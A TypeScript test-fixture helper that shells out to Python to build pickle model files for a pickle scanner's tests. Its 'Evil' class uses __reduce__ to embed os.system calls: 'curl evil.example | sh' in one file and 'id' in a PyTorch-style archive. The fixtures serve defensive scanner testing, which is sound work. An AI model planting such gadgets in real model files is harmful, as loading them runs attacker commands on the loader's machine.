// Pickle-bearing model files made by python3 (no numpy/sklearn needed: their globals are faked
// by module and qualname, which is all pickle writes), for the gate's `scan: pickle` tests.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export type PickleFixture = 'benign.joblib' | 'system.joblib' | 'custom.joblib' | 'system.pt';

let made: string | undefined;

/** Writes the fixtures once per process; returns the bytes of one. */
export function pickleFixture(name: PickleFixture): Buffer {
  made ??= make();
  return readFileSync(join(made, name));
}

function make(): string {
  const dir = mkdtempSync(join(tmpdir(), 'mg-pickles-'));
  execFileSync(
    'python3',
    [
      '-c',
      String.raw`
import pickle, os, sys, types, zipfile, collections
def fake_global(mod, name):
    parts = mod.split('.')
    for i in range(1, len(parts) + 1):
        n = '.'.join(parts[:i])
        if n not in sys.modules:
            sys.modules[n] = types.ModuleType(n)
            if i > 1: setattr(sys.modules['.'.join(parts[:i-1])], parts[i-1], sys.modules[n])
    f = type(name, (), {})
    f.__module__ = mod; f.__qualname__ = name
    setattr(sys.modules[mod], name, f)
    return f
recon = fake_global('numpy.core.multiarray', '_reconstruct')
ndarray = fake_global('numpy', 'ndarray')
Est = fake_global('sklearn.ensemble._forest', 'RandomForestClassifier')
Custom = fake_global('acme_features.transforms', 'LogScaler')
class Arr:
    def __reduce__(self): return (recon, (ndarray, (0,), b'b'), (1, (3,), None, False, b'\x00' * 24))
def est(**extra):
    e = Est.__new__(Est); e.__dict__.update({'coef_': Arr(), 'n_estimators': 100, **extra}); return e
class Evil:
    def __init__(self, f, a): self.f, self.a = f, a
    def __reduce__(self): return (self.f, self.a)
open('benign.joblib', 'wb').write(pickle.dumps({'model': est(), 'meta': collections.OrderedDict(a=1)}, protocol=4))
open('system.joblib', 'wb').write(pickle.dumps({'model': est(), 'hook': Evil(os.system, ('curl evil.example | sh',))}, protocol=4))
c = Custom.__new__(Custom); c.__dict__.update({'base': 10})
open('custom.joblib', 'wb').write(pickle.dumps({'model': est(scaler=c)}, protocol=4))
with zipfile.ZipFile('system.pt', 'w', zipfile.ZIP_STORED) as z:
    z.writestr('archive/data.pkl', pickle.dumps(collections.OrderedDict(w=Evil(os.system, ('id',))), protocol=2))
    z.writestr('archive/version', '3\n')
`,
    ],
    { cwd: dir },
  );
  return dir;
}
